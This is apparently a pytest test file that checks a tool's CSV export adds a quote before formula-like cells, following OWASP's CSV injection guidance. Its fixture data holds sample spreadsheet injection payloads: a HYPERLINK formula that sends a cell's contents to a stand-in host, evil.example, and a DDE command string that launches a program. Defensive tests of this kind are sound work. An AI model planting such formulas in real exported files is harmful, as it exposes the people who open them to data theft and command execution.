"""CSV cells a spreadsheet would run are neutralized (issue 32, item 11), as OWASP's CSV
Injection page recommends: "Ensure that no cells begin with any of the following characters:
Equals to (=), Plus (+), Minus (-), At (@), Tab (0x09), Carriage return (0x0D)", each such
cell prefixed with a single quote. `export --csv-raw` writes cells as stored; JSONL and the
console's CSV download follow the same rule as `export`."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from backends import BACKENDS, pg_schema
from cli_runs import cli
from jsonl_files import write_jsonl
from starlette.testclient import TestClient

from store.api.app import create_app
from store.db.audit_store import AuditStore

# (problem_text, source_ref) of each frame, and the cells a spreadsheet must read as text.
CELLS = [('=HYPERLINK("https://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0"),
         ("+1+1", "-2+3"), ("\t=1+1", "\r=1+1"), ("plain text", "a-b=c@d"),
         ("'=already quoted", "")]
NEUTRALIZED = [("'" + CELLS[0][0], "'" + CELLS[0][1]), ("'+1+1", "'-2+3"),
               ("'\t=1+1", "'\r=1+1"), ("plain text", "a-b=c@d"), ("'=already quoted", "")]


def frames(tmp_path: Path) -> Path:
    return write_jsonl(tmp_path / "formulas.jsonl", [
        {"problem_text": text, "source_ref": ref, "contract_assessments": [{
            "candidate_organ": "unary_delta_transition", "missing_bindings": [],
            "unresolved_hazards": [], "runnable": True, "explanation": "runnable",
            "evidence_spans": []}]} for text, ref in CELLS])


@pytest.fixture(scope="module", params=BACKENDS)
def store(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
          ) -> Iterator[str]:
    folder = tmp_path_factory.mktemp("formulas")
    if request.param == "sqlite":
        db = str(folder / "audit.db")
        assert cli("ingest", "--db", db, frames(folder)).exit_code == 0
        yield db
        return
    with pg_schema() as url:
        assert cli("ingest", "--db", url, frames(folder)).exit_code == 0
        yield url


def cells_of(data: bytes) -> list[tuple[str, str]]:
    rows = csv.DictReader(io.StringIO(data.decode("utf-8"), newline=""))
    return [(row["problem_text"], row["source_ref"]) for row in rows]


def exported(db: str, *options: str) -> bytes:
    result = cli("export", "assessments", "--db", db, *options)
    assert result.exit_code == 0, result.output
    return result.stdout_bytes


def test_a_cell_a_spreadsheet_would_run_gets_a_quote_in_front(store: str) -> None:
    data = exported(store, "--format", "csv")
    assert cells_of(data) == NEUTRALIZED
    assert b",'+1+1,'-2+3," in data  # unquoted: a quote never changes the CSV quoting
    assert b",'\t=1+1,\"'\r=1+1\"," in data  # a CR is quoted, as RFC 4180 quotes it


def test_csv_raw_writes_the_cells_as_stored(store: str) -> None:
    assert cells_of(exported(store, "--format", "csv", "--csv-raw")) == CELLS


def test_jsonl_keeps_the_values_and_csv_raw_is_for_csv_only(store: str) -> None:
    assert b'"problem_text":"+1+1","source_ref":"-2+3"' in exported(store, "--format", "jsonl")
    refused = cli("export", "assessments", "--db", store, "--format", "jsonl", "--csv-raw")
    assert refused.exit_code == 2
    assert "--csv-raw is for --format csv" in refused.stderr


def test_the_console_download_is_neutralized_too(store: str) -> None:
    with AuditStore.open(store, read_only=True) as db, TestClient(
            create_app(db, close_db_on_shutdown=False), base_url="http://127.0.0.1") as client:
        download = client.get("/export/assessments.csv")
    assert download.status_code == 200
    assert cells_of(download.content) == NEUTRALIZED
    assert download.content == exported(store, "--format", "csv")
